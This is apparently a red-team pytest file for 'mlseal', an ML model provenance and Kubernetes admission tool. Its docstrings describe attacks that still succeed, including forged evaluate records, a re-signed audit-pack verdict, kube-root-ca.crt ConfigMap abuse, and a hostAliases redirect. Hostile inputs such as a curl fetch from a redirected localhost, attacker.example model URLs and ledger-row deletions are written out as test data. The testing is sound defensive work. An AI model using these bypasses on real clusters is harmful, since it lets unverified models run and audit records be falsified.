"""Red team, round 3: attacks on a fresh `mlseal demo`'s promises, one attacker each.

Every test asserts the SECURE behaviour, so a test that fails is an attack that works.
Failing on the redteam3 branch (each marked ``ATTACK WORKS`` below):

- test_one_evaluate_key_cannot_make_a_model_admission_accepts (promise 4, high)
- test_verify_pack_does_not_report_a_verdict_its_own_records_contradict (promise 5, medium)
- test_the_namespace_ca_configmap_is_not_a_model_source[*] (promise 1, medium-high)
- test_host_aliases_cannot_turn_loopback_into_a_remote_host (promise 1, medium)
- test_an_http_hook_or_probe_naming_a_remote_location_is_denied (promise 1, low)
- test_an_inference_service_loading_a_second_model_via_storage_uris_is_denied (promise 1, low)
- test_admit_refuses_a_yaml_manifest_with_a_duplicate_key (promise 1, low: `mlseal admit` only)

The others are attacks that are refused today, kept as regression tests.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import sqlite3
import tarfile
from pathlib import Path
from typing import Any

import pytest

from mlseal.admission import ModelRef, decide_model, load_policy
from mlseal.admission.webhook import AdmissionController, DecisionCache
from mlseal.cli import main
from mlseal.errors import ConfigurationError, VerificationError
from mlseal.export.pack import ADMISSION, MANIFEST, MANIFEST_TYPE, _tar, verify_pack_bytes
from mlseal.ledger import _jcs, open_ledger
from mlseal.ledger.checkpoint import DEFAULT_ORIGIN, Checkpoint, sign_checkpoint
from mlseal.ledger.entry import record_of
from mlseal.ledger.record import Component, InputRef, OutputRef, RecordDraft, Sha256Hex
from mlseal.ledger.rollback import verify_held
from mlseal.ledger.verified import VerifiedView, ViewFailed
from mlseal.signing import dsse
from mlseal.signing.trust import load_trust
from tests.export_world import GATES, METRICS, RUN, World, _inp, make_world
from tests.fixtures_admission import SERVER_IMAGE, AdmissionWorld, isvc, pod_template, review
from tests.test_workload import check, good, wrap

EVIL_SHA = Sha256Hex(hashlib.sha256(b"a model nobody trained").hexdigest())


@pytest.fixture(scope="module")
def export_world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return make_world(tmp_path_factory.mktemp("rt3") / "w")


def _records(world: World) -> dict[int, Any]:
    with open_ledger(world.url) as led:
        return {s: record_of(e) for s, e in led.entries()}


def _deployment(world: AdmissionWorld, mutate: Any) -> dict[str, Any]:
    spec = pod_template(good(world))
    mutate(spec)
    return wrap("Deployment", spec, good(world))


def _denied(world: AdmissionWorld, obj: dict[str, Any]) -> None:
    d = check(world, obj)
    assert not d.allowed, f"ATTACK WORKS: admitted {json.dumps(obj)[:300]}"


# === 4. holder of ONE stage's key ================================================================

def test_one_evaluate_key_cannot_make_a_model_admission_accepts(tmp_path: Path) -> None:
    """ATTACK WORKS (high). The evaluate key alone writes (a) an `evaluate` record that
    consumes the real model and OUTPUTS another model digest, then (b) an `evaluate` record
    that consumes that digest with passing metrics. Admission takes (a) as the new model's
    producer (any trusted record that output the digest), follows its inputs to the real
    train/process/ingest records (required stages present), and takes (b) as the evaluation
    (signed by the `evaluate` identity, same split): the demo policy admits a model no
    `train` record ever produced. The loader would fetch it too (its bundle needs a key
    granted the producer's stage: evaluate). Fix: a served model's producer must be a record
    of a model-producing stage (`train`, or kinds the policy lists), never `evaluate`/
    `deploy`/`serve`, and the evaluation must be a different identity's record than the
    producer's."""
    w = make_world(tmp_path / "w")
    recs = _records(w)
    model, enc = recs[w.seqs["train"]].outputs[0], recs[w.seqs["encrypt"]].outputs[0]
    key = w.keys["evaluate"]
    forged = OutputRef(name="model", uri="s3://models/forged/model", sha256=EVIL_SHA, media_type=model.media_type)
    params = {"gates": GATES, "test_fraction": 0.25, "split_seed": 0, "label": "label"}
    with open_ledger(w.url) as led:
        made = led.append(RecordDraft(
            stage="evaluate", component=Component(name="evaluate"), run=RUN,
            inputs=(_inp("model", model, w.seqs["train"]), _inp("data", enc, w.seqs["encrypt"])),
            outputs=(forged,), params=params, metrics=METRICS), key, signer_name="evaluate").seq
        led.append(RecordDraft(
            stage="evaluate", component=Component(name="evaluate"), run=RUN,
            inputs=(InputRef(name="model", uri=forged.uri, sha256=EVIL_SHA, producer_seq=made),
                    _inp("data", enc, w.seqs["encrypt"])),
            params=params, metrics=METRICS), key, signer_name="evaluate")
    policy = load_policy(w.policy)
    ref = ModelRef(kind="Pod", name="p", namespace="prod", sha256=EVIL_SHA, uri=forged.uri, where="test")
    with open_ledger(w.url) as led:
        d = decide_model(ref, policy, ledger=led)
    assert not d.allowed, "ATTACK WORKS: a model only the evaluate key vouched for is admitted"


@pytest.mark.parametrize("stage", ["ingest", "process", "deploy"])
def test_one_other_stage_key_cannot_make_a_model_admission_accepts(tmp_path: Path, stage: str) -> None:
    """Refused: a key of another single stage outputs a new model digest from the real model;
    nobody it may sign as can evaluate it (the `evaluation.signers` rule)."""
    w = make_world(tmp_path / "w")
    recs = _records(w)
    model = recs[w.seqs["train"]].outputs[0]
    forged = OutputRef(name="model", uri="s3://models/forged/model", sha256=EVIL_SHA, media_type=model.media_type)
    with open_ledger(w.url) as led:
        made = led.append(RecordDraft(stage=stage, component=Component(name="quantize"), run=RUN,
                                      inputs=(_inp("model", model, w.seqs["train"]),), outputs=(forged,)),
                          w.keys[stage], signer_name=stage).seq
        # an "evaluation" of the forged model signed by the same key, claiming the evaluate stage
        # (the ledger stores it; readers judge it against the key's grant)
        led.append(RecordDraft(stage="evaluate", component=Component(name="evaluate"), run=RUN,
                               inputs=(InputRef(name="model", uri=forged.uri, sha256=EVIL_SHA, producer_seq=made),),
                               metrics=METRICS), w.keys[stage], signer_name=stage)
    ref = ModelRef(kind="Pod", name="p", namespace="prod", sha256=EVIL_SHA, uri=forged.uri, where="test")
    with open_ledger(w.url) as led:
        assert not decide_model(ref, load_policy(w.policy), ledger=led).allowed


# === 5. auditor-side: altering an audit pack ====================================================

def _pack_members(data: bytes) -> list[tuple[str, bytes]]:
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        out = []
        for m in tar:
            f = tar.extractfile(m)
            assert f is not None
            out.append((m.name, f.read()))
        return out


def _repack(members: list[tuple[str, bytes]], key: Any, replace: dict[str, bytes]) -> bytes:
    body = [(n, replace.get(n, b)) for n, b in members if n != MANIFEST]
    manifest = json.loads(dsse.parse(dict(members)[MANIFEST]).payload)
    manifest["members"] = [{"name": n, "size": len(b), "sha256": hashlib.sha256(b).hexdigest()} for n, b in body]
    return _tar([(MANIFEST, dsse.sign(key, MANIFEST_TYPE, _jcs.dumps(manifest))), *body])


@pytest.fixture(scope="module")
def denied_pack(tmp_path_factory: pytest.TempPathFactory) -> tuple[World, bytes]:
    w = make_world(tmp_path_factory.mktemp("rt3pack") / "w", failed_evaluation=True)
    out = w.dir / "model.pack"
    assert main(["export", "pack", w.model_sha256, *w.run_args(), "--key", str(w.key_files["train"]),
                 "--policy", str(w.policy), "--out", str(out)]) == 0
    return w, out.read_bytes()


def test_verify_pack_does_not_report_a_verdict_its_own_records_contradict(denied_pack: tuple[World, bytes]) -> None:
    """ATTACK WORKS (medium). The model's newest evaluation failed its gate, so the export
    packs "admission DENIED". Whoever holds the train key (who may sign packs of train
    outputs) rewrites admission.json to `allowed: true, reasons: []` and re-signs the
    manifest: `verify-pack` passes and reports the model admitted, although the pack holds
    the policy (accuracy >= 0.9) and the evaluation record (accuracy 0.61, status failed)
    that contradict it. Fix: verify-pack re-derives the gates/evaluation verdict from the
    pack's policy and records (or reports the decision as the signer's claim, never as
    verified), and refuses a pack whose decision disagrees."""
    w, data = denied_pack
    members = _pack_members(data)
    decision = json.loads(dict(members)[ADMISSION])
    assert decision["allowed"] is False
    decision.update(allowed=True, reasons=[], codes=[])
    forged = _repack(members, w.keys["train"],
                     {ADMISSION: json.dumps(decision, indent=2, sort_keys=True).encode() + b"\n"})
    try:
        report = verify_pack_bytes(forged, load_trust(w.trust))
    except VerificationError:
        return
    assert not report.allowed, "ATTACK WORKS: verify-pack reports a failed-gate model as admitted"


@pytest.mark.parametrize("member", ["mlseal-pack/admission.json", "mlseal-pack/policy.yaml",
                                    "mlseal-pack/checkpoint"])
def test_an_auditor_without_a_key_cannot_alter_a_pack(denied_pack: tuple[World, bytes], member: str) -> None:
    """Refused: without a key, any member change (re-listed in an unsigned or rogue-signed
    manifest) fails verification."""
    w, data = denied_pack
    members = _pack_members(data)
    changed = dict(members)[member] + b"\n"
    with pytest.raises(VerificationError):
        verify_pack_bytes(_repack(members, w.keys["rogue"], {member: changed}), load_trust(w.trust))
    body = [(n, changed if n == member else b) for n, b in members]
    with pytest.raises(VerificationError):
        verify_pack_bytes(_tar(body), load_trust(w.trust))


# === 3. ledger DB writer ========================================================================

def test_deleting_a_newer_failed_evaluation_under_a_held_checkpoint_is_refused(tmp_path: Path) -> None:
    """Refused: the DB writer deletes the newest (failed) evaluation and every stored
    checkpoint; a reader holding the checkpoint it accepted sees the rollback."""
    w = make_world(tmp_path / "w", failed_evaluation=True)
    trust = load_trust(w.trust)
    held = verify_held(_stored_note(w), trust, source="held")
    db = sqlite3.connect(w.url.removeprefix("sqlite:///"))
    db.execute("DELETE FROM mlseal_entries WHERE seq = ?", (w.seqs["reevaluate"],))
    db.execute("DELETE FROM mlseal_checkpoints")
    db.execute("DELETE FROM mlseal_nodes")
    db.execute("DELETE FROM mlseal_digests WHERE seq = ?", (w.seqs["reevaluate"],))
    db.commit()
    db.close()
    ref = ModelRef(kind="Pod", name="p", namespace="prod", sha256=Sha256Hex(w.model_sha256), uri=None, where="t")
    with open_ledger(w.url) as led:
        view = VerifiedView(led, trust)
        with pytest.raises(ViewFailed):
            view.require(held)
        d = decide_model(ref, load_policy(w.policy), ledger=view)
    assert not d.allowed


def _stored_note(w: World) -> bytes:
    db = sqlite3.connect(w.url.removeprefix("sqlite:///"))
    (note,) = db.execute("SELECT note FROM mlseal_checkpoints ORDER BY id DESC LIMIT 1").fetchone()
    db.close()
    return bytes(note)


def test_a_forged_checkpoint_row_does_not_pin_a_forked_tree(tmp_path: Path) -> None:
    """Refused: the DB writer inserts a checkpoint signed by a key the trust file does not
    list (the rogue key) for a rewritten tree; `ledger verify` does not report OK."""
    w = make_world(tmp_path / "w")
    with open_ledger(w.url) as led:
        head = led.head()
        led.add_checkpoint(sign_checkpoint(Checkpoint(DEFAULT_ORIGIN, head.size, b"\x00" * 32), w.keys["rogue"]))
    rc = main(["ledger", "verify", "--ledger", w.url, "--trust", str(w.trust)])
    assert rc != 0


def test_an_index_row_cannot_invent_a_producer(tmp_path: Path) -> None:
    """Refused: an `mlseal_digests` row naming a made-up digest as an output of the train
    record does not make admission (or fetch's producer lookup) believe it."""
    w = make_world(tmp_path / "w")
    db = sqlite3.connect(w.url.removeprefix("sqlite:///"))
    roles = [r for (r,) in db.execute("SELECT DISTINCT role FROM mlseal_digests")]
    for role in roles:
        db.execute("INSERT OR IGNORE INTO mlseal_digests (sha256, role, seq) VALUES (?, ?, ?)",
                   (bytes.fromhex(EVIL_SHA), role, w.seqs["train"]))
    db.commit()
    db.close()
    ref = ModelRef(kind="Pod", name="p", namespace="prod", sha256=EVIL_SHA, uri=None, where="t")
    with open_ledger(w.url) as led:
        assert not decide_model(ref, load_policy(w.policy), ledger=led).allowed


# === 2. object-store writer =====================================================================

@pytest.mark.parametrize("attack", ["bitflip", "extra_file", "staging_name", "swap_bundle"])
def test_an_object_store_writer_gets_nothing_published(tmp_path: Path, attack: str) -> None:
    """Refused: the loader publishes nothing (DEST stays empty) when the model directory or
    its bundle was changed in the store, including a file named like the loader's own
    staging directory."""
    from mlseal.fetch.loader import fetch_model

    w = make_world(tmp_path / "w")
    onnx = w.model_dir / "mlseal-model" / "1" / "model.onnx"
    if attack == "bitflip":
        data = bytearray(onnx.read_bytes())
        data[3] ^= 1
        onnx.write_bytes(bytes(data))
    elif attack == "extra_file":
        (w.model_dir / "mlseal-model" / "2").mkdir()
        (w.model_dir / "mlseal-model" / "2" / "model.onnx").write_bytes(b"evil")
    elif attack == "staging_name":
        (w.model_dir / ".mlseal-fetch-000000").mkdir()
        (w.model_dir / ".mlseal-fetch-000000" / "model.onnx").write_bytes(b"evil")
    else:
        other = tmp_path / "other"
        shutil.copytree(w.model_dir, other)
        from mlseal.signing.artifact import sign_path

        sig = sign_path(other, w.keys["train"])
        Path(str(w.model_dir) + ".sig").write_bytes(sig.read_bytes() + b" ")
    dest = tmp_path / "dest"
    dest.mkdir()
    policy = load_policy(w.policy)
    with pytest.raises((VerificationError, ConfigurationError)):
        fetch_model(w.model_dir.as_uri(), dest, sha256=w.model_sha256, policy=policy)
    assert [p.name for p in dest.iterdir()] == [], "a half-written model volume"


# === 1. kubectl user in an opted-in namespace ===================================================

@pytest.mark.parametrize("items", [True, False])
def test_the_namespace_ca_configmap_is_not_a_model_source(admission_world: AdmissionWorld, items: bool) -> None:
    """ATTACK WORKS (medium-high). A projected `configMap` source named `kube-root-ca.crt` is
    exempt from the user-written-volume rule. But a namespace user who may update configmaps
    (the `edit` role) can write that ConfigMap: kube-controller-manager's root-CA publisher
    resets `data` to `{ca.crt}` but compares and rewrites only `data`, so a key added under
    `binaryData` (a small model, up to ~1 MiB) stays. The server then mounts the projected
    source (all keys, or `items: [{key: model.joblib}]`) and serves bytes the loader never
    verified. Fix: exempt kube-root-ca.crt only with `items` exactly `[{key: ca.crt, ...}]`
    (and treat any other projection of it as a configMap)."""
    def mutate(s: dict[str, Any]) -> None:
        src: dict[str, Any] = {"name": "kube-root-ca.crt"}
        if items:
            src["items"] = [{"key": "model.joblib", "path": "model.joblib"}]
        s["volumes"].append({"name": "ca", "projected": {"sources": [{"configMap": src}]}})
        s["containers"][0]["volumeMounts"].append({"name": "ca", "mountPath": "/var/ca", "readOnly": True})
        s["containers"][0]["args"] = ["--model-dir=/var/ca"]
    _denied(admission_world, _deployment(admission_world, mutate))


def test_the_ca_bundle_alone_is_admitted(admission_world: AdmissionWorld) -> None:
    """The legitimate form (what the ServiceAccount admission plugin injects) stays admitted."""
    def mutate(s: dict[str, Any]) -> None:
        s["volumes"].append({"name": "ca", "projected": {"sources": [
            {"serviceAccountToken": {"path": "token", "expirationSeconds": 3607}},
            {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}}]}})
        s["containers"][0]["volumeMounts"].append({"name": "ca", "mountPath": "/var/run/secrets/kubernetes.io/"
                                                   "serviceaccount", "readOnly": True})
    d = check(admission_world, _deployment(admission_world, mutate))
    assert d.allowed, d.reasons


def test_host_aliases_cannot_turn_loopback_into_a_remote_host(admission_world: AdmissionWorld) -> None:
    """ATTACK WORKS (medium). `http://localhost:…` is exempt as loopback. `hostAliases`
    appends `203.0.113.9 localhost` to every container's /etc/hosts; with `multi on` (Debian
    images' host.conf) getaddrinfo returns it after 127.0.0.1, and a client falls back to it
    when nothing listens on 127.0.0.1:9999: the server fetches from the attacker. (The same
    field also redirects any name the loader resolves, which its verification absorbs.)
    Fix: deny `hostAliases` (at least any naming a loopback name) and a `dnsConfig` with
    `searches`/`nameservers` in model pods, or stop exempting loopback names."""
    def mutate(s: dict[str, Any]) -> None:
        s["hostAliases"] = [{"ip": "203.0.113.9", "hostnames": ["localhost"]}]
        s["containers"][0]["command"] = ["sh", "-c", "curl -so /tmp/m http://localhost:9999/m && exec serve /tmp/m"]
    _denied(admission_world, _deployment(admission_world, mutate))


@pytest.mark.parametrize(("field", "value", "named"), [
    ("hostAliases", [{"ip": "203.0.113.9", "hostnames": ["models"]}], "hostAliases rewrites /etc/hosts"),
    ("dnsConfig", {"nameservers": ["203.0.113.53"]}, "dnsConfig.nameservers changes how every container"),
    ("dnsConfig", {"searches": ["evil.example"]}, "dnsConfig.searches changes how every container"),
])
def test_name_resolution_overrides_are_named(admission_world: AdmissionWorld, field: str, value: Any,
                                             named: str) -> None:
    """Each override of name resolution is denied as a location override, naming its field."""
    from mlseal.admission.decision import Reason

    d = check(admission_world, _deployment(admission_world, lambda s: s.__setitem__(field, value)))
    assert not d.allowed and Reason.MODEL_OVERRIDE in d.codes, d.reasons
    assert any(named in r and "remove it" in r for r in d.reasons), d.reasons


def test_dns_options_and_empty_aliases_are_admitted(admission_world: AdmissionWorld) -> None:
    """What changes no name's address stays admitted: resolver options, an empty alias list."""
    def mutate(s: dict[str, Any]) -> None:
        s["dnsConfig"] = {"options": [{"name": "ndots", "value": "2"}], "nameservers": [], "searches": []}
        s["hostAliases"] = []
    d = check(admission_world, _deployment(admission_world, mutate))
    assert d.allowed, d.reasons


@pytest.mark.parametrize("where", ["postStart", "readinessProbe"])
def test_an_http_hook_or_probe_naming_a_remote_location_is_denied(admission_world: AdmissionWorld,
                                                                   where: str) -> None:
    """ATTACK WORKS (low). Exec hooks and probes are held to the location rules; `httpGet`
    ones are not read at all: the kubelet GETs the server's own port with a path that carries
    a remote model URL (a server whose management API loads on GET), or GETs another host.
    Fix: read httpGet `host`, `path` and header values with the same location rules."""
    handler = {"httpGet": {"path": "/load?url=https://attacker.example/model.joblib", "port": 8080}}

    def mutate(s: dict[str, Any]) -> None:
        c = s["containers"][0]
        if where == "postStart":
            c["lifecycle"] = {"postStart": handler}
        else:
            c["readinessProbe"] = handler
    _denied(admission_world, _deployment(admission_world, mutate))


def test_an_inference_service_loading_a_second_model_via_storage_uris_is_denied(
        admission_world: AdmissionWorld) -> None:
    """ATTACK WORKS at the InferenceService (low: the Pod gate still denies the pod, whose
    storage initializer gets extra URI arguments). KServe's `storageUris` (several model
    locations, each with a mountPath) is neither resolved nor denied, so an object naming an
    unchecked second model is admitted. Fix: deny unknown model-location keys
    (`storageUris`, `storage`) in every predictor/framework spec."""
    obj = isvc(good(admission_world))
    obj["spec"]["predictor"]["model"]["storageUris"] = [{"uri": "s3://attacker/m", "mountPath": "/mnt/models/x"}]
    _denied(admission_world, obj)


def _hostile(spec: dict[str, Any], change: str) -> None:
    c = spec["containers"][0]
    if change == "envFrom":
        c["envFrom"] = [{"configMapRef": {"name": "cfg"}}]
    elif change == "volumeDevices":
        spec["volumes"].append({"name": "blk", "ephemeral": {"volumeClaimTemplate": {"spec": {
            "accessModes": ["ReadWriteOnce"], "volumeMode": "Block", "resources": {"requests": {"storage": "1Gi"}}}}}})
        c["volumeDevices"] = [{"name": "blk", "devicePath": "/dev/xvda"}]
    elif change == "native_sidecar":
        spec["initContainers"].insert(0, {"name": "side", "image": SERVER_IMAGE, "restartPolicy": "Always"})
    elif change == "init_before_loader":
        spec["initContainers"].insert(0, {"name": "pre", "image": SERVER_IMAGE,
                                          "volumeMounts": [{"name": "model", "mountPath": "/mnt/models"}]})
    elif change == "loader_sidecar":
        spec["initContainers"][0]["restartPolicy"] = "Always"
    elif change == "loader_flag_abbreviation":
        spec["initContainers"][0]["args"] += ["--pol", "/tmp/p.yaml"]
    elif change == "tag_and_unpinned_digest":
        c["image"] = "registry.example/serving/server:v1@sha256:" + "A" * 64
    elif change == "other_registry_same_path":
        c["image"] = "registry.example.evil.example/serving/server@sha256:" + "2" * 64
    elif change == "subpath_over_model":
        spec["volumes"].append({"name": "scratch", "emptyDir": {}})
        c["volumeMounts"].append({"name": "scratch", "mountPath": "/mnt/models/1", "subPath": "x"})
    elif change == "writable_model_via_second_mount":
        c["volumeMounts"].append({"name": "model", "mountPath": "/srv/m", "subPath": "."})
    elif change == "hostpath_readonly":
        spec["volumes"].append({"name": "h", "hostPath": {"path": "/var/lib/models"}})
        c["volumeMounts"].append({"name": "h", "mountPath": "/h", "readOnly": True})
    elif change == "null_readonly":
        c["volumeMounts"][0]["readOnly"] = None


HOSTILE = ["envFrom", "volumeDevices", "native_sidecar", "init_before_loader", "loader_sidecar",
           "loader_flag_abbreviation", "tag_and_unpinned_digest", "other_registry_same_path", "subpath_over_model",
           "writable_model_via_second_mount", "hostpath_readonly", "null_readonly"]


@pytest.mark.parametrize("change", HOSTILE)
def test_pod_gate_refuses_hostile_variants(admission_world: AdmissionWorld, change: str) -> None:
    """Refused: each change to an admitted Deployment that could serve other bytes or run
    another image."""
    _denied(admission_world, _deployment(admission_world, lambda s: _hostile(s, change)))


def _controller(w: AdmissionWorld) -> AdmissionController:
    c = AdmissionController(w.policy, ledger_factory=lambda: open_ledger(w.ledger_url, create=False),
                            cache=DecisionCache(64))
    c.follow()
    return c


def test_ephemeral_container_through_the_subresource_update_is_denied(admission_world: AdmissionWorld) -> None:
    """Refused: `kubectl debug` (UPDATE pods/ephemeralcontainers) with an allowed image."""
    w = admission_world
    pod = wrap("Pod", pod_template(good(w)), good(w))
    new = json.loads(json.dumps(pod))
    new["spec"]["ephemeralContainers"] = [{"name": "dbg", "image": SERVER_IMAGE, "targetContainerName": "server"}]
    r = review(new, operation="UPDATE", old=pod)
    k = {"group": "", "version": "v1", "kind": "Pod"}
    r["request"].update(kind=k, requestKind=k, subResource="ephemeralcontainers",
                        resource={"group": "", "version": "v1", "resource": "pods"})
    out = _controller(w).review(json.dumps(r).encode())[1]["response"]
    assert out["allowed"] is False


def test_an_update_riding_on_deletion_cannot_swap_the_image(admission_world: AdmissionWorld) -> None:
    """Refused: an UPDATE of an object being deleted that also changes its spec is judged."""
    w = admission_world
    old = wrap("Deployment", pod_template(good(w)), good(w))
    new = json.loads(json.dumps(old))
    new["metadata"]["deletionTimestamp"] = "2026-12-03T00:00:00Z"
    new["spec"]["template"]["spec"]["containers"][0]["image"] = "evil.example/x:latest"
    out = _controller(w).review(json.dumps(review(new, operation="UPDATE", old=old)).encode())[1]["response"]
    assert out["allowed"] is False


def _admit_yaml(w: AdmissionWorld, tmp_path: Path, text: str) -> int:
    path = tmp_path / "m.yaml"
    path.write_text(text)
    return main(["admit", str(path), "--policy", str(w.policy_path)])


def test_admit_refuses_a_yaml_manifest_with_a_duplicate_key(admission_world: AdmissionWorld,
                                                            tmp_path: Path) -> None:
    """ATTACK WORKS (low, `mlseal admit` only). A YAML mapping that names `image` twice is
    ambiguous: PyYAML keeps the last (the allowed image) and admit exits 0; kubectl's YAML
    decoder refuses the file, but another client may keep the first. Fix: load manifests
    with a loader that refuses duplicate keys."""
    import yaml

    obj = _deployment(admission_world, lambda s: None)
    text = yaml.safe_dump(obj, sort_keys=False)
    good_line = f"image: {SERVER_IMAGE}"
    assert good_line in text
    text = text.replace(good_line, "image: evil.example/server:latest\n" + " " * _indent(text, good_line)
                        + good_line, 1)
    assert _admit_yaml(admission_world, tmp_path, text) != 0


def _indent(text: str, line: str) -> int:
    for raw in text.splitlines():
        if raw.strip() == line:
            return len(raw) - len(raw.lstrip())
    raise AssertionError(line)


def test_admit_follows_yaml_anchors_and_merge_keys(admission_world: AdmissionWorld, tmp_path: Path) -> None:
    """Refused: a container built from an anchor whose merged image is unpinned."""
    w = admission_world
    g = good(w)
    text = f"""
x-base: &base
  image: evil.example/server:latest
apiVersion: apps/v1
kind: Deployment
metadata: {{name: s, namespace: prod, annotations: {{mlseal.dev/model-sha256: "{g.sha256}"}}}}
spec:
  selector: {{matchLabels: {{app: s}}}}
  template:
    metadata: {{labels: {{app: s}}, annotations: {{mlseal.dev/model-sha256: "{g.sha256}"}}}}
    spec:
      initContainers:
        - {json.dumps(pod_template(g)["initContainers"][0])}
      containers:
        - <<: *base
          name: server
          volumeMounts: [{{name: model, mountPath: /mnt/models, readOnly: true}}]
      volumes: [{{name: model, emptyDir: {{}}}}]
"""
    assert _admit_yaml(w, tmp_path, text) == 1


# === 6. secrets ================================================================================

@pytest.mark.parametrize("dsn", [
    "postgresql://u:s3cr3tpwA1@127.0.0.1:1/db",
    "postgresql://u@127.0.0.1:1/db?password=s3cr3tpwA2",
    "host=127.0.0.1 port=1 user=u password=s3cr3tpwA3 dbname=db",
    "postgresql:///db?host=127.0.0.1&port=1&password=s3cr3tpwA4",
    "postgresql://u:s3cr3tpwA5@[::1:1/db",
])
def test_a_ledger_password_never_reaches_admit_output(admission_world: AdmissionWorld, dsn: str,
                                                      capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "pod.json"
    path.write_text(json.dumps(_deployment(admission_world, lambda s: None)))
    rc = main(["admit", str(path), "--policy", str(admission_world.policy_path), "--ledger", dsn, "--json"])
    out = capsys.readouterr()
    assert rc != 0
    assert "s3cr3tpw" not in out.out + out.err


def test_credentials_in_a_denied_manifest_never_reach_the_denial_or_audit(
        admission_world: AdmissionWorld, caplog: pytest.LogCaptureFixture) -> None:
    """A server variable and a loader URI carrying a token: the denial message and the
    webhook's audit line show neither."""
    w = admission_world

    def mutate(s: dict[str, Any]) -> None:
        s["containers"][0]["env"] = [{"name": "MODEL", "value": "https://bob:t0k3nSECRETa@attacker.example/m"}]
        s["containers"][0]["args"] = ["--model=s3://AKIAEXAMPLE:t0k3nSECRETb@attacker/m"]
        s["initContainers"][0]["args"][0] = "https://alice:t0k3nSECRETc@models.example/m"
    obj = _deployment(w, mutate)
    with caplog.at_level("INFO"):
        _status, out = _controller(w).review(json.dumps(review(obj)).encode())
    text = json.dumps(out) + caplog.text
    assert out["response"]["allowed"] is False
    assert "t0k3nSECRET" not in text
